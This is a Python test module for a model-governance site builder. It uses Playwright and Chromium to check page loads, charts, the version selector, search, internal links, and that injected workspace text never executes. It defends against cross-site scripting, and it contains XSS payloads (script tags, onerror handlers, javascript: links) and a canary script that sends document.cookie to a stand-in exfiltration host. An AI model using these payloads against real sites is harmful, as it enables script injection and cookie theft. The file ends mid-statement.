"""The built site in a real browser (Playwright driving Debian's Chromium).

What a reviewer sees, not what the HTML files say: the key pages load without a console error and
without one request leaving the local host, Plotly charts really draw, Material's version selector
and search work on a versioned site served over HTTP, every internal link and `#fragment` resolves,
and hostile text from a workspace never executes. Full-page screenshots of the key pages go to
``$MODELGOV_SCREENSHOTS`` (default ``ci-artifacts/screenshots/``) for a human to look at.

Needs ``pip install playwright`` and a Chromium executable: ``$MODELGOV_CHROMIUM`` if set (and only
that one), else ``/usr/bin/chromium``, ``/usr/bin/chromium-browser`` or ``chromium`` on the PATH.
``playwright install`` is never needed: the system browser is launched directly. Without either, the
whole module is skipped with the reason.
"""

from __future__ import annotations

import contextlib
import functools
import html.parser
import itertools
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urldefrag, urljoin, urlsplit

import pytest

REPO = Path(__file__).resolve().parents[1]
EPOCH = "1767225600"  # 2026-01-01T00:00:00Z, as in the other reproducibility tests
LOCAL_HOST = "127.0.0.1"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    # Every request to another host goes to a proxy that is not there, so it fails inside the browser
    # (host names and IP literals alike; Chromium never proxies the loopback address). The requests
    # are still seen and recorded (:func:`watched`); nothing needs intercepting, so the browser's
    # cache keeps working (Playwright's request routing turns it off: Plotly's 3.5 MB script was
    # fetched and compiled again on every page).
    "--proxy-server=http://127.0.0.1:9",
]
#: Schemes that are not network requests (Plotly draws heatmaps as data: images).
NOT_NETWORK = ("data:", "blob:", "about:")


def find_chromium() -> tuple[str | None, str]:
    """The Chromium executable to drive, or None and why none was found."""
    explicit = os.environ.get("MODELGOV_CHROMIUM")
    if explicit:
        if os.path.isfile(explicit) and os.access(explicit, os.X_OK):
            return explicit, ""
        return None, f"MODELGOV_CHROMIUM={explicit} is not an executable file"
    for candidate in ("/usr/bin/chromium", "/usr/bin/chromium-browser", shutil.which("chromium")):
        if candidate and os.path.isfile(candidate) and os.access(candidate, os.X_OK):
            return candidate, ""
    return None, (
        "no Chromium found (looked at $MODELGOV_CHROMIUM, /usr/bin/chromium, /usr/bin/chromium-browser, "
        "chromium on PATH); install it with `apt-get install chromium`"
    )


try:
    from playwright.sync_api import Browser, Page, sync_playwright
    from playwright.sync_api import TimeoutError as PlaywrightTimeout
except ImportError:  # pragma: no cover - depends on the environment
    pytest.skip(
        "browser tests need the `playwright` package: pip install -e '.[test]' (or pip install playwright)",
        allow_module_level=True,
    )

CHROMIUM, _WHY_NO_CHROMIUM = find_chromium()
if CHROMIUM is None:  # pragma: no cover - depends on the environment
    pytest.skip(f"browser tests need Chromium: {_WHY_NO_CHROMIUM}", allow_module_level=True)

pytestmark = [pytest.mark.browser, pytest.mark.slow]

from modelgov import manifest  # noqa: E402 - after the module-level skips, to skip fast
from modelgov.build import build_site, render_manifest  # noqa: E402
from modelgov.demo.policies import AS_OF  # noqa: E402
from modelgov.site_versions import record_version  # noqa: E402
from modelgov.workspace.load import load_workspace  # noqa: E402
from shared_builds import DemoBuild  # noqa: E402
from workspace_factory import edit, write_workspace  # noqa: E402

# --------------------------------------------------------------------------------------------------
# Serving and building
# --------------------------------------------------------------------------------------------------


class _QuietHandler(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


@dataclass
class Served:
    root: Path
    url: str  # http://127.0.0.1:PORT/ (with the trailing slash)

    def at(self, path: str) -> str:
        return urljoin(self.url, path)


@functools.cache
def _screenshots_dir() -> Path:
    folder = Path(os.environ.get("MODELGOV_SCREENSHOTS") or REPO / "ci-artifacts" / "screenshots")
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def _serve(directory: Path) -> Iterator[Served]:
    server = ThreadingHTTPServer((LOCAL_HOST, 0), functools.partial(_QuietHandler, directory=str(directory)))
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, name=f"http {directory.name}", daemon=True)
    thread.start()
    try:
        yield Served(directory, f"http://{LOCAL_HOST}:{server.server_address[1]}/")
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


@dataclass(frozen=True)
class DemoSite:
    served: Served
    latest: str  # the version aliased `latest`
    older: str
    credit_id: str
    credit_name: str
    pages: dict[str, str]  # key page → path inside a version folder

    def page_url(self, key: str, version: str | None = None) -> str:
        return self.served.at(f"{version or self.latest}/{self.pages[key]}")


def _key_pages(version_dir: Path, the_manifest: dict[str, Any]) -> tuple[str, str, dict[str, str]]:
    """The key pages of the demo, found in the built site (not guessed), relative to the version."""
    credit = next(m for m in the_manifest["models"] if m["id"].startswith("credit"))
    model_dir = version_dir / "models" / credit["id"]
    newest = credit["versions"][0]["version"]
    # drift lives on a version's monitoring page; fairness (per-group charts) on that version's card
    monitoring = sorted(model_dir.glob("*/monitoring.html"))
    assert monitoring, f"no monitoring page under {model_dir}"
    drift = monitoring[0]
    fairness = drift.parent / "index.html"
    assert "chart--fairness--" in fairness.read_text(encoding="utf-8"), f"no fairness chart on {fairness}"
    audit = version_dir / "build.html"
    assert 'id="audit-log"' in audit.read_text(encoding="utf-8"), "the audit log is no longer on build.html"
    pages = {
        "home": version_dir / "index.html",
        "model-card": model_dir / newest / "index.html",
        "fairness": fairness,
        "drift": drift,
        "compliance": version_dir / "compliance" / "index.html",
        "lineage": version_dir / "lineage.html",
        "audit": audit,
    }
    for key, path in pages.items():
        assert path.is_file(), f"{key} page {path} is not in the built site"
    return credit["id"], credit["name"], {k: p.relative_to(version_dir).as_posix() for k, p in pages.items()}


@pytest.fixture(scope="module")
def demo_site(tmp_path_factory: pytest.TempPathFactory, demo_build: DemoBuild) -> Iterator[DemoSite]:
    """The demo workspace built as a versioned site with two versions, served over HTTP.

    Version 1.0 is a real `modelgov build --site-version` run (the demo's policies block its
    candidate on purpose, so the build exits 1 after writing the site) of the workspace the test run
    shares (tests/conftest.py), with its analysis cache: computing a manifest is most of a build's
    time. For the same reason version 2.0 renders the same manifest again, as `build_site` does for
    a version, and records it with the `latest` alias."""
    root = tmp_path_factory.mktemp("browser-demo")
    workspace, sites = demo_build.workspace, root / "sites"
    env = {**os.environ, "SOURCE_DATE_EPOCH": EPOCH, **demo_build.cache_env()}
    command = [sys.executable, "-m", "modelgov", "build", str(workspace), "-o", str(sites)]
    command += ["--site-version", "1.0", "--as-of", AS_OF.isoformat(), "--quiet"]
    done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode in (0, 1) and (sites / "1.0" / "manifest.json").is_file(), done.stdout + done.stderr
    first = manifest.read(sites / "1.0" / "manifest.json")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SOURCE_DATE_EPOCH", EPOCH)
        render_manifest(
            first.model_copy(update={"site_version": "2.0"}),
            sites / "2.0",
            template_dir=load_workspace(workspace).templates_dir,
            versioned=True,
        )
        record_version(sites, "2.0", ("latest",))
    the_manifest = json.loads((sites / "2.0" / "manifest.json").read_text(encoding="utf-8"))
    credit_id, credit_name, pages = _key_pages(sites / "2.0", the_manifest)
    for served in _serve(sites):
        yield DemoSite(served, "2.0", "1.0", credit_id, credit_name, pages)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        # Playwright turns Chromium's back-forward cache off by default; the red-team crawl goes back
        # to a page after each link it clicks, which the cache then restores instead of loading again
        the_browser = playwright.chromium.launch(
            executable_path=CHROMIUM,
            headless=True,
            args=CHROMIUM_ARGS,
            ignore_default_args=["--disable-back-forward-cache"],
        )
        try:
            yield the_browser
        finally:
            the_browser.close()


# --------------------------------------------------------------------------------------------------
# A watched page: console errors, page errors, dialogs and every request are recorded
# --------------------------------------------------------------------------------------------------


@dataclass
class Watched:
    page: Page
    requests: list[str] = field(default_factory=list)
    failed: dict[str, str] = field(default_factory=dict)  # url → the browser's error (net::ERR_…)
    console_errors: list[str] = field(default_factory=list)
    page_errors: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)

    def off_host(self) -> list[str]:
        return [u for u in self.requests if not u.startswith(NOT_NETWORK) and urlsplit(u).hostname != LOCAL_HOST]

    def assert_clean(self, what: str) -> None:
        problems = []
        if self.console_errors:
            problems.append("console errors:\n  " + "\n  ".join(self.console_errors))
        if self.page_errors:
            problems.append("uncaught page errors:\n  " + "\n  ".join(self.page_errors))
        if self.off_host():
            problems.append("requests off 127.0.0.1:\n  " + "\n  ".join(sorted(set(self.off_host()))))
        assert not problems, f"{what}:\n" + "\n".join(problems)


@pytest.fixture
def watched(browser: Browser) -> Iterator[Watched]:
    context = browser.new_context(viewport={"width": 1280, "height": 900}, service_workers="block")
    page = context.new_page()
    page.set_default_timeout(15_000)
    seen = Watched(page)

    # every page of the context (a pop-up too); requests off the host fail at the dead proxy (CHROMIUM_ARGS)
    context.on("request", lambda request: seen.requests.append(request.url))
    context.on("requestfailed", lambda request: seen.failed.setdefault(request.url, request.failure or ""))
    page.on(
        "console",
        lambda message: (
            seen.console_errors.append(f"{message.text} (at {message.location.get('url', '?')})")
            if message.type == "error"
            else None
        ),
    )
    page.on("pageerror", lambda error: seen.page_errors.append(str(error)))

    def on_dialog(dialog: Any) -> None:
        seen.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    try:
        yield seen
    finally:
        context.close()


# --------------------------------------------------------------------------------------------------
# a. Key pages load cleanly (and are screenshotted)
# --------------------------------------------------------------------------------------------------

KEY_PAGES = ("home", "model-card", "fairness", "drift", "compliance", "lineage", "audit")


@pytest.mark.parametrize("key", KEY_PAGES)
def test_key_page_loads_without_errors_or_external_requests(demo_site: DemoSite, watched: Watched, key: str) -> None:
    url = demo_site.page_url(key)
    response = watched.page.goto(url, wait_until="networkidle")
    assert response is not None and response.status == 200, f"{url}: HTTP {response and response.status}"
    assert watched.page.locator("h1").first.inner_text().strip(), f"{url} has no heading"
    watched.page.screenshot(path=_screenshots_dir() / f"{key}.png", full_page=True)
    watched.assert_clean(f"{key} page {url}")
    assert any(urlsplit(u).hostname == LOCAL_HOST for u in watched.requests)


# --------------------------------------------------------------------------------------------------
# b. Plotly charts draw
# --------------------------------------------------------------------------------------------------

_CHART_MARKS = """() => Array.from(document.querySelectorAll('.mg-chart')).map(chart => ({
    id: chart.id,
    drawn: chart.classList.contains('js-plotly-plot'),
    traces: chart.querySelectorAll('.main-svg g.trace').length,
    marks: chart.querySelectorAll(
        'g.trace path.point, g.trace g.point path, g.trace path.js-line, g.hm image, g.trace path.box, g.trace path'
    ).length,
}))"""


@pytest.mark.parametrize("key", ["fairness", "drift"])
def test_plotly_charts_draw_data_marks(demo_site: DemoSite, watched: Watched, key: str) -> None:
    page = watched.page
    page.goto(demo_site.page_url(key), wait_until="load")
    page.locator(".js-plotly-plot").first.wait_for(state="attached")
    charts = page.evaluate(_CHART_MARKS)
    assert charts, f"no charts on the {key} page"
    if key == "fairness":
        fairness = [c for c in charts if c["id"].startswith("chart--fairness--")]
        assert fairness, f"no fairness chart on {demo_site.pages[key]}: {[c['id'] for c in charts]}"
        assert page.locator("[id^='chart--fairness--'].js-plotly-plot path.point").count() > 0
        page.add_style_tag(content=".md-header, .md-tabs { visibility: hidden; }")  # sticky, would cover the chart
        page.locator("[id^='chart--fairness--']").first.screenshot(path=_screenshots_dir() / "fairness-chart.png")
    empty = [c for c in charts if not c["drawn"] or c["marks"] == 0]
    assert not empty, f"charts without data marks on {demo_site.pages[key]}: {empty}"
    assert page.locator(".js-plotly-plot g.trace").count() > 0
    watched.assert_clean(f"{key} page")


# --------------------------------------------------------------------------------------------------
# c. Version selector
# --------------------------------------------------------------------------------------------------


def test_version_selector_lists_both_versions_and_switches(demo_site: DemoSite, watched: Watched) -> None:
    page = watched.page
    recorded = json.loads((demo_site.served.root / "versions.json").read_text(encoding="utf-8"))
    assert [v["version"] for v in recorded] == [demo_site.latest, demo_site.older]
    # the root of the folder redirects to the version aliased `latest`
    page.goto(demo_site.served.url, wait_until="load")
    page.wait_for_url(re.compile(rf"/{re.escape(demo_site.latest)}/"))

    page.goto(demo_site.page_url("lineage"), wait_until="networkidle")
    selector = page.locator(".md-version")
    selector.wait_for()
    assert page.locator(".md-version__current").inner_text().strip() == demo_site.latest
    listed = [t.strip() for t in page.locator(".md-version__link").all_inner_texts()]
    assert listed == [demo_site.latest, demo_site.older], listed

    selector.hover()  # Material opens the list on hover
    page.locator(".md-version__link", has_text=demo_site.older).click()
    page.wait_for_url(re.compile(rf"^{re.escape(demo_site.served.url)}{re.escape(demo_site.older)}/"))
    page.wait_for_load_state("networkidle")
    assert page.locator(".md-version__current").inner_text().strip() == demo_site.older
    assert page.locator("h1").first.inner_text().strip()
    watched.assert_clean("switching version")


# --------------------------------------------------------------------------------------------------
# d. Search
# --------------------------------------------------------------------------------------------------


def test_search_finds_the_model_by_name(demo_site: DemoSite, watched: Watched) -> None:
    page = watched.page
    page.goto(demo_site.page_url("home"), wait_until="networkidle")
    page.keyboard.press("/")  # Material's search shortcut (also opens the search on small screens)
    query = page.locator(".md-search__input")
    query.wait_for(state="visible")
    query.press_sequentially(demo_site.credit_name, delay=10)  # Material reads the query on key events, not fill()
    results = page.locator(".md-search-result__item > a")
    results.first.wait_for(state="visible")
    model_page = demo_site.served.at(f"{demo_site.latest}/models/{demo_site.credit_id}/index.html")
    hrefs = [urldefrag(href.split("?")[0]).url for href in results.evaluate_all("links => links.map(a => a.href)")]
    assert model_page in hrefs, f"searching {demo_site.credit_name!r} did not list {model_page}: {hrefs}"
    page.locator(f".md-search-result__item > a[href^='{model_page}']").first.click()
    page.wait_for_url(re.compile(rf"^{re.escape(model_page)}"))
    assert page.locator("h1").first.inner_text().strip().removesuffix("¶").strip() == demo_site.credit_name
    watched.assert_clean("search")


# --------------------------------------------------------------------------------------------------
# e. Crawl: every internal link and fragment resolves
# --------------------------------------------------------------------------------------------------


class _LinksAndIds(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.resources: list[str] = []
        self.ids: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if values.get("id"):
            self.ids.add(values["id"])
        if tag == "a" and values.get("name"):
            self.ids.add(values["name"])
        if tag == "a" and values.get("href") is not None:
            self.links.append(values["href"])
        elif tag in ("link", "script", "img") and (values.get("href") or values.get("src")):
            self.resources.append(values.get("href") or values.get("src") or "")


@dataclass
class _Fetched:
    status: int
    url: str  # after redirects
    ids: set[str] = field(default_factory=set)
    links: list[str] = field(default_factory=list)
    resources: list[str] = field(default_factory=list)


def _fetch(url: str) -> _Fetched:
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            body = response.read()
            fetched = _Fetched(response.status, response.geturl())
            if response.headers.get_content_type() == "text/html":
                parser = _LinksAndIds()
                parser.feed(body.decode("utf-8", errors="replace"))
                fetched.ids, fetched.links, fetched.resources = parser.ids, parser.links, parser.resources
            return fetched
    except urllib.error.HTTPError as error:
        return _Fetched(error.code, url)


def test_crawl_every_internal_link_and_fragment_resolves(demo_site: DemoSite) -> None:
    host = urlsplit(demo_site.served.url).netloc
    start = demo_site.page_url("home")
    fetched: dict[str, _Fetched] = {}
    queue = [start]
    wanted: list[tuple[str, str, str]] = []  # (page, href as written, absolute target)

    def internal(url: str) -> bool:
        parts = urlsplit(url)
        return parts.scheme in ("http", "https") and parts.netloc == host

    while queue:
        url = queue.pop()
        if url in fetched:
            continue
        fetched[url] = page = _fetch(url)
        if page.status != 200:
            continue
        for href in page.links:
            target = urljoin(page.url, href)
            if not internal(target):
                continue
            wanted.append((url, href, target))
            bare = urldefrag(target).url.split("?")[0]
            if bare not in fetched:
                queue.append(bare)
        for src in page.resources:
            target = urljoin(page.url, src)
            if internal(target):
                wanted.append((url, src, target))
                bare = urldefrag(target).url.split("?")[0]
                if bare not in fetched:
                    fetched[bare] = _fetch(bare)  # assets: status only, not crawled

    broken: set[str] = set()
    for page_url, href, target in wanted:
        bare, fragment = urldefrag(target)
        bare = bare.split("?")[0]
        result = fetched[bare]
        where = page_url.removeprefix(demo_site.served.url)
        if result.status != 200:
            broken.add(f"{where}: {href!r} → HTTP {result.status}")
        elif fragment and fragment not in result.ids and result.ids:
            broken.add(f"{where}: {href!r} → no id {fragment!r} on {bare.removeprefix(demo_site.served.url)}")
    pages = [u for u, f in fetched.items() if f.ids]
    assert len(pages) >= 40, f"the crawl reached only {len(pages)} pages from {start}"
    assert not broken, f"{len(broken)} broken internal links (of {len(wanted)} checked):\n" + "\n".join(sorted(broken))


# --------------------------------------------------------------------------------------------------
# f. Hostile workspace text never executes
# --------------------------------------------------------------------------------------------------

HOSTILE_DESCRIPTION = """\
description: |
    Predicts loan default.

    <script>window.__pwned = 1; alert("script")</script>

    <img src=x onerror="window.__pwned = 2; alert('img')">

    [click me](javascript:window.__pwned=3;alert(3))

    <a href="javascript:window.__pwned=5" onclick="window.__pwned=6">raw link</a>
"""
HOSTILE_NAME = (
    """name: 'Loan <img src=y onerror="window.__pwned=4;alert(4)"><script>window.__pwned=7</script> approval'"""
)

_DANGEROUS_DOM = """() => {
    const onAttributes = [];
    for (const element of document.querySelectorAll('*')) {
        for (const attribute of element.attributes) {
            if (attribute.name.toLowerCase().startsWith('on')) {
                onAttributes.push(`<${element.tagName.toLowerCase()} ${attribute.name}="${attribute.value}">`);
            }
        }
    }
    const javascriptUrls = Array.from(document.querySelectorAll('[href], [src], [action], [formaction]'))
        .map(e => e.getAttribute('href') || e.getAttribute('src') || e.getAttribute('action') || e.getAttribute('formaction'))
        .filter(v => /^\\s*javascript:/i.test(v || ''));
    const scripts = Array.from(document.scripts).filter(s => /^\\s*window\\.__pwned/.test(s.textContent || '')).length;
    return {
        pwned: typeof window.__pwned === 'undefined' ? null : String(window.__pwned),
        onAttributes, javascriptUrls, scripts,
        javascriptLinks: document.querySelectorAll('a[href^="javascript:" i]').length,
    };
}"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    root = tmp_path_factory.mktemp("browser-hostile")
    workspace = write_workspace(root / "workspace")
    edit(workspace, "models/loans/model.yml", "description: Predicts loan default.\n", HOSTILE_DESCRIPTION)
    edit(workspace, "models/loans/model.yml", "name: Loan approval", HOSTILE_NAME)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SOURCE_DATE_EPOCH", EPOCH)
        build_site(workspace, root / "site")
    yield from _serve(root / "site")


def _check_inert(watched: Watched, what: str) -> None:
    page = watched.page
    page.wait_for_timeout(200)  # let any onerror handler of a failed image run
    found = page.evaluate(_DANGEROUS_DOM)
    assert found["pwned"] is None, f"{what}: hostile text executed (window.__pwned = {found['pwned']})"
    assert not watched.dialogs, f"{what}: a dialog was opened: {watched.dialogs}"
    assert not found["onAttributes"], f"{what}: event-handler attributes in the DOM: {found['onAttributes']}"
    assert not found["javascriptUrls"] and not found["javascriptLinks"], (
        f"{what}: javascript: URLs in the DOM: {found['javascriptUrls']}"
    )
    assert not found["scripts"], f"{what}: a <script> from workspace text is in the DOM"
    assert not watched.off_host(), f"{what}: requests off 127.0.0.1: {watched.off_host()}"


_CANARY = """<!doctype html><html><head><title>canary</title></head><body>
<img src="http://example.invalid/leak.png"><img src="http://10.1.2.3/leak.png">
<img src="missing.png" onerror="window.__pwned = 'onerror'">
<a id="js" href="javascript:alert('link')">click-js</a>
<script>fetch('https://exfiltrate.example.com/?c=' + document.cookie).catch(() => {});</script>
<script>window.__pwned = window.__pwned || 'script';</script>
</body></html>"""


def test_the_watch_sees_what_a_hostile_page_does(tmp_path: Path, watched: Watched) -> None:
    """The checks above can fail: a page that requests other hosts (by name and by IP address, as an
    image and from a script), runs an ``onerror`` handler and holds a ``javascript:`` link is caught by
    every one of them, and none of its requests leaves the machine."""
    (tmp_path / "canary.html").write_text(_CANARY)
    for served in _serve(tmp_path):
        watched.page.goto(served.at("canary.html"), wait_until="networkidle")
        with pytest.raises(AssertionError, match="hostile text executed"):
            _check_inert(watched, "canary")
        found = watched.page.evaluate(_DANGEROUS_DOM)
        assert found["onAttributes"] and found["javascriptUrls"] and found["javascriptLinks"] == 1
        assert found["scripts"] == 1
        assert set(watched.off_host()) >= {
            "http://example.invalid/leak.png",
            "http://10.1.2.3/leak.png",
            "https://exfiltrate.example.com/?c=",
        }
        with pytest.raises(AssertionError, match=re.escape("requests off 127.0.0.1")):
            watched.assert_clean("canary")
        # the requests failed in the browser, at the proxy they were sent to, which does not exist (not
        # because this machine happens to have no network)
        status = watched.page.evaluate(
            "() => fetch('http://10.1.2.3/', {signal: AbortSignal.timeout(5000)})"
            ".then(r => r.status, e => 'failed: ' + e.name)"
        )
        assert status == "failed: TypeError", status  # refused at once, not timed out
        off_host = {url: error for url, error in watched.failed.items() if url in watched.off_host()}
        assert off_host and set(off_host.values()) == {"net::ERR_PROXY_CONNECTION_FAILED"}, watched.failed
        watched.page.click("#js")
        watched.page.wait_for_timeout(200)
        assert watched.dialogs == ["alert: link"]


@pytest.mark.parametrize("path", ["index.html", "models/loans/index.html", "models/loans/1.0/index.html"])
def test_hostile_workspace_text_does_not_execute(hostile_site: Served, watched: Watched, path: str) -> None:
    page = watched.page
    response = page.goto(hostile_site.at(path), wait_until="networkidle")
    assert response is not None and response.status == 200
    _check_inert(watched, path)
    for text in ("click me", "raw link"):
        link = page.locator("a", has_text=text)
        if link.count():
            link.first.click()
            page.wait_for_timeout(200)
            _check_inert(watched, f"{path} after clicking {text!r}")
    if path == "index.html":
        # Material renders search results from its index as HTML: the hostile name must stay inert there too
        page.keyboard.press("/")
        page.locator(".md-search__input").press_sequentially("Loan", delay=10)
        page.locator(".md-search-result__item").first.wait_for(state="visible")
        _check_inert(watched, "search results for 'Loan'")
    assert not watched.page_errors, f"{path}: uncaught page errors: {watched.page_errors}"


# --------------------------------------------------------------------------------------------------
# g. Red team: hostile text in every user field, every page opened, every user link clicked
# --------------------------------------------------------------------------------------------------

#: One field's text: links in every form Markdown (and its escapes and entities) can write, remote
#: resources, event handlers, attribute-list syntax and script last (an unclosed one eats the rest).
#: Every link text starts with "click-", so the test finds and clicks whatever became a link.
REDTEAM_TEXT = (
    "[click-1](javascript:window.__pwned=1;alert(1)) \\[click-2\\](javascript:window.__pwned=2;alert(2)) "
    "&#91;click-3&#93;(javascript:window.__pwned=3;alert(3)) [click-4][r] "
    '<a href="javascript:window.__pwned=5" onclick="window.__pwned=6;alert(6)">click-5</a> '
    "[click-6](&#106;avascript:window.__pwned=7;alert(7)) [click-7](data:text/html,alert(8)) "
    "[click-8](vbscript:msgbox(1)) [click-rel](#top) "
    '![i](http://example.com/a.png) !\\[j\\](http://example.com/b.png) <img src=x onerror="window.__pwned=9;alert(9)"> '
    '<svg><image href="http://example.com/s.png"/></svg> <img srcset="http://example.com/1x.png 1x"> '
    '<p style="background:url(http://example.com/bg.png)">st</p> x {: onclick=alert(10) } '
    "<script>window.__pwned=11;alert(11)</script>\n\n[r]: javascript:window.__pwned=4;alert(4)"
)
REDTEAM_COLUMN = "age<img src=x onerror=alert(12)>[click-9](javascript:alert(13))"


@pytest.fixture(scope="module")
def redteam_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    from modelgov.cli import main
    from test_redteam_render import hostile_workspace  # the red-team corpus's workspace writer

    root = tmp_path_factory.mktemp("browser-redteam")
    workspace = hostile_workspace(root / "workspace", REDTEAM_TEXT, REDTEAM_COLUMN)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SOURCE_DATE_EPOCH", EPOCH)
        code = main(["build", str(workspace), "--out", str(root / "site"), "--quiet", "--no-cache"])
    assert code == 1 and (root / "site" / "index.html").is_file()  # built; the policy's rule fails
    yield from _serve(root / "site")


_USER_LINKS = """() => Array.from(document.querySelectorAll('.md-content a'))
    .filter(a => /click-/.test(a.textContent || ''))
    .map(a => ({text: (a.textContent || '').trim(), href: a.getAttribute('href') || '', html: a.outerHTML}))"""


@pytest.mark.redteam
def test_redteam_every_page_and_every_user_link_stays_inert(redteam_site: Served, watched: Watched) -> None:
    """Hostile text in every field (tests/test_redteam_render.py writes it into the card, version,
    datasheets, policy, waiver, approval, a group value and a column name): every page of the site
    opens without running any of it or fetching from another host, and every link whose text the
    workspace wrote is clicked without a dialog, a ``javascript:`` navigation or a request that
    leaves 127.0.0.1."""
    page = watched.page
    navigations: list[str] = []
    page.on("framenavigated", lambda frame: navigations.append(frame.url))
    pages = sorted(p.relative_to(redteam_site.root).as_posix() for p in redteam_site.root.rglob("*.html"))
    assert len(pages) > 8
    clicked = 0
    for path in pages:
        # Opened to its load event, then given up to 10 s to fall quiet. Waiting for quiet as part of
        # the navigation failed once in CI after 15 s on a page that opens in under a second, right
        # after the previous page was left mid-load (its requests aborted), which no rerun under load
        # reproduced; every request is recorded by the context whatever the wait, and each check
        # below, and the last ones, see all of them
        response = page.goto(redteam_site.at(path), wait_until="load")
        assert response is not None and response.status == 200, path
        with contextlib.suppress(PlaywrightTimeout):
            page.wait_for_load_state("networkidle", timeout=10_000)
        _check_inert(watched, path)
        links = page.evaluate(_USER_LINKS)
        tried: set[str] = set()
        for index, link in enumerate(links):
            assert not re.match(r"\s*(javascript|data|vbscript):", link["href"], re.I), f"{path}: {link}"
            if link["html"] in tried:  # the same element again (a heading's "#top"): a click does the same
                continue
            tried.add(link["html"])
            # each link is clicked on its page: when the last click left it, the browser goes back to
            # it (restored from its back-forward cache as it was left, with anything a click had run
            # still in it: no page is loaded, laid out and drawn again), or opens it again when it cannot
            if urldefrag(page.url).url != redteam_site.at(path):
                page.go_back(wait_until="commit")  # a page restored from the cache fires no load event
                if urldefrag(page.url).url != redteam_site.at(path):
                    page.goto(redteam_site.at(path), wait_until="load")
            page.locator(".md-content a", has_text=link["text"]).nth(
                sum(1 for earlier in links[:index] if earlier["text"] == link["text"])
            ).click()
            clicked += 1
            _check_inert(watched, f"{path} after clicking {link['text']!r}")
            assert urlsplit(page.url).hostname == LOCAL_HOST, f"{path}: {link} navigated to {page.url}"
    assert not [url for url in navigations if not url.startswith(redteam_site.url)], navigations
    assert not [url for url in watched.requests if url.lower().startswith(("javascript:", "vbscript:"))]
    assert clicked > 0, "no user-written link was found to click (the relative one should be)"
    assert not watched.page_errors, f"uncaught page errors: {watched.page_errors}"


# --------------------------------------------------------------------------------------------------
# Group tables and charts at a reviewer's window size
# --------------------------------------------------------------------------------------------------

_TABLE_WIDTHS = """() => Array.from(document.querySelectorAll('.md-typeset__scrollwrap')).map(wrap => ({
    head: (wrap.querySelector('th') || {}).textContent || '',
    columns: wrap.querySelectorAll('tr:first-child th').length,
    scroll: wrap.scrollWidth,
    client: wrap.clientWidth,
}))"""

#: For each x axis of each chart, the boxes of its tick labels (left, right, top, bottom).
_TICK_BOXES = """() => Array.from(document.querySelectorAll('.mg-chart .xaxislayer-above')).map(axis =>
    Array.from(axis.querySelectorAll('.xtick text')).map(text => {
        const box = text.getBoundingClientRect();
        return [box.left, box.right, box.top, box.bottom, text.textContent];
    }))"""


def _overlapping(axes: list[list[list[Any]]]) -> list[tuple[str, str]]:
    """Pairs of tick labels on one axis whose boxes intersect (1 px of tolerance)."""
    clashes = []
    for boxes in axes:
        for a, b in itertools.pairwise(boxes):
            if a[1] - 1 > b[0] and a[0] < b[1] - 1 and a[2] < b[3] - 1 and b[2] < a[3] - 1:
                clashes.append((a[4], b[4]))
    return clashes


def test_group_tables_show_every_column_at_1400_px(demo_site: DemoSite, watched: Watched) -> None:
    """Seven rates with their intervals, beside each group's rows, fit the content column of a
    1400 px window: no column of a group table hides behind a scroll bar."""
    page = watched.page
    page.set_viewport_size({"width": 1400, "height": 1000})
    page.goto(demo_site.page_url("model-card"), wait_until="load")
    tables = page.evaluate(_TABLE_WIDTHS)
    groups = [t for t in tables if t["head"].strip() == "Group" or " × " in t["head"]]
    # the fairness tables (group, rows, seven rates); the comparison's tables of each group's rate
    # differences against the live version (group, rows, three differences) must fit as well
    rates = [t for t in groups if t["columns"] == 9]
    assert len(rates) >= 3, f"expected the sex, age_band and sex × age_band tables: {tables}"
    assert all(t["columns"] in (5, 9) for t in groups), groups
    hidden = [t for t in groups if t["scroll"] > t["client"] + 1]
    assert not hidden, f"group tables wider than the page at 1400 px: {hidden}"
    page.add_style_tag(content=".md-header, .md-tabs { visibility: hidden; }")
    table = page.locator(".md-typeset__scrollwrap").filter(has=page.locator("th", has_text="sex × age_band"))
    table.first.screenshot(path=_screenshots_dir() / "group-table-1400.png")
    assert not _overlapping(page.evaluate(_TICK_BOXES))
    watched.assert_clean("model card at 1400 px")


def test_long_group_names_never_overlap_on_the_chart_axes(demo_site: DemoSite, watched: Watched) -> None:
    """COMPAS's race groups ("African-American", "Native American", …): the chart gives them room."""
    import numpy as np
    import pandas as pd

    from manifest_factory import make_manifest
    from modelgov.analysis.fairness import fairness_by_group
    from modelgov.render import charts

    names = ["African-American", "Asian", "Caucasian", "Hispanic", "Native American", "Other"]
    rng = np.random.default_rng(0)
    race = pd.Series(rng.choice(names, 3000))
    y = (rng.random(3000) < 0.4).astype(int)
    p = (rng.random(3000) < 0.4).astype(int)
    result = fairness_by_group("race", race, y, p, classification=True, min_group_size=30)
    built = make_manifest()
    model = built.models[0]
    version = model.versions[0]
    chart = charts.fairness_chart(model, version, version.evaluations[0], result)
    assert chart is not None
    assets = f"/{demo_site.latest}/assets/javascripts/plotly.min.js"
    page_file = demo_site.served.root / "long-ticks.html"
    page_file.write_text(
